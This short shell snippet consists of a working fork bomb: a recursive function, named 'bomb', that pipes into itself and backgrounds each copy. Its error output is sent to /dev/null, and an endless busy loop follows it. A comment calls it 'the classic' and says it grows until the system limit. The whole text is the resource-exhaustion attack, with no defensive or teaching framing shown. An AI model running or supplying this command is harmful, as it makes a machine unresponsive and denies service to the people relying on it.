# The classic, by name: it grows as fast as it can until the limit, and then goes on trying.
bash -c 'bomb() { bomb | bomb & }; bomb' 2>/dev/null
echo started
while :; do :; done
